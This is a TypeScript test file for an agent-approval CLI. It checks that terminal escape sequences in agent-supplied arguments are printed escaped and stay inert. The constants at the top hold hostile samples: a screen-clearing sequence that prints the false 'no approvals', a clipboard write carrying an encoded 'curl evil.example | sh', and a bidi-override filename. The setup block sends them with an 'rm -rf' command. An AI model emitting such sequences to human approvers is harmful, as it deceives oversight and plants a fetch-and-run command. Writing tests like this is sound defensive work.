import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { printable, printableJson } from '@tessera/protocol'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { connectHttpClient, removeDir } from '../support/hub.js'
import { type CliHub, runCli, startCliHub } from '../support/run-cli.js'
import { readFileSync } from 'node:fs'

/** What a red-team run put in a command's arguments: clear the screen, print a lie, hide the rest, write the clipboard. */
const CLEAR_AND_LIE = '\u001b[2J\u001b[Hno approvals\u001b[8m'
const OSC52_CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'
const C1_CSI = '\u009b2J'
const BIDI_OVERRIDE = '\u202eelif.txt'
const HOSTILE = [CLEAR_AND_LIE, OSC52_CLIPBOARD, C1_CSI, BIDI_OVERRIDE]
const HOSTILE_SURFACE = `claims${CLEAR_AND_LIE}${C1_CSI}${BIDI_OVERRIDE}`
/** Anything a terminal acts on instead of showing. */
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

describe('printable', () => {
  it('writes every active character out as its escape and leaves other text alone', () => {
    expect(printable(CLEAR_AND_LIE)).toBe('\\x1b[2J\\x1b[Hno approvals\\x1b[8m')
    expect(printable(OSC52_CLIPBOARD)).toBe('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07')
    expect(printable(C1_CSI)).toBe('\\x9b2J')
    expect(printable(BIDI_OVERRIDE)).toBe('\\u202eelif.txt')
    expect(printable('line\nnext\u2028\u2066')).toBe('line\\x0anext\\u2028\\u2066')
    expect(printable('Approve payout of €1,250 to Zoë — ok ✓')).toBe('Approve payout of €1,250 to Zoë — ok ✓')
    // Idempotent: printing a printed text changes nothing.
    const once = printable(HOSTILE.join(' '))
    expect(printable(once)).toBe(once)
  })

  it('printableJson parses back to the very same value', () => {
    const value = { args: HOSTILE, nested: { s: '\u0085\u2029' } }
    const text = printableJson(value)
    expect(text).not.toMatch(ACTIVE)
    expect(JSON.parse(text)).toEqual(value)
    expect(JSON.parse(printableJson(value, 2))).toEqual(value)
  })
})

describe('the CLI shows what agents sent without obeying it', () => {
  let dataDir: string
  let cliHub: CliHub
  let client: Client
  let approvalId: string
  let session: string

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'tessera-hostile-cli-'))
    cliHub = await startCliHub(dataDir)
    client = await connectHttpClient(cliHub.hub.mcpUrl, readFileSync(join(dataDir, 'agent.token'), 'utf8').trim())
    // A destructive command whose arguments carry the sequences: it waits for a person.
    const command = `rm -rf ./build ${HOSTILE.map((arg) => `'${arg}'`).join(' ')}`
    const asked = await client.callTool({ name: 'terminal_execute', arguments: { terminal_id: 'term-1', command, wait_ms: 0 } })
    const envelope = (asked._meta as { 'tessera/result'?: { status: string; approvalId: string } })['tessera/result']
    expect(envelope?.status).toBe('awaiting_approval')
    approvalId = envelope!.approvalId
    // A request to a surface that does not exist, named with the sequences: refused, and traced as sent.
    const refused = await client.callTool({ name: 'action_request', arguments: { surface: HOSTILE_SURFACE, action: 'open-claim', input: {} } })
    expect(refused.isError).toBe(true)
    session = (refused.structuredContent as { result: { session: string } }).result.session
  }, 60_000)

  afterAll(async () => {
    await client?.close()
    await cliHub?.stop()
    removeDir(dataDir)
  })

  it('`approvals list` prints the arguments escaped: nothing clears, hides or reaches the clipboard', async () => {
    const listed = await runCli(['approvals', 'list', '--data', dataDir])
    expect(listed.code).toBe(0)
    expect(listed.stdout).toContain(approvalId)
    expect(listed.stdout).not.toMatch(ACTIVE)
    expect(listed.stdout).toContain('\\x1b[2J\\x1b[Hno approvals\\x1b[8m')
    expect(listed.stdout).toContain('\\x1b]52;c;')
    expect(listed.stdout).toContain('\\x9b2J')
    expect(listed.stdout).toContain('\\u202eelif.txt')
  })

  it('`trace tail` and `trace export` print the refused request inert; the export still parses to what was sent', async () => {
    const tail = await runCli(['trace', 'tail', '--data', dataDir, '--session', session, '-n', '50'])
    expect(tail.code).toBe(0)
    expect(tail.stdout).toMatch(/not_found/)
    expect(tail.stdout).not.toMatch(ACTIVE)
    const exported = await runCli(['trace', 'export', join(dataDir, 'trace.db'), '--session', session])
    expect(exported.code).toBe(0)
    expect(exported.stdout).not.toMatch(ACTIVE)
    const events = exported.stdout.trim().split('\n').map((line) => JSON.parse(line) as { type: string; data: { request?: { surface?: string } } })
    expect(events.find((e) => e.type === 'requested' && e.data.request?.surface === HOSTILE_SURFACE)).toBeDefined()
  })

  it('an error that quotes agent input is printed escaped', async () => {
    const denied = await runCli(['approvals', 'approve', `apr_${CLEAR_AND_LIE}`, '--data', dataDir])
    expect(denied.code).toBe(1)
    expect(denied.stderr).toContain('error [not_found]')
    expect(denied.stderr).not.toMatch(ACTIVE)
  })
})
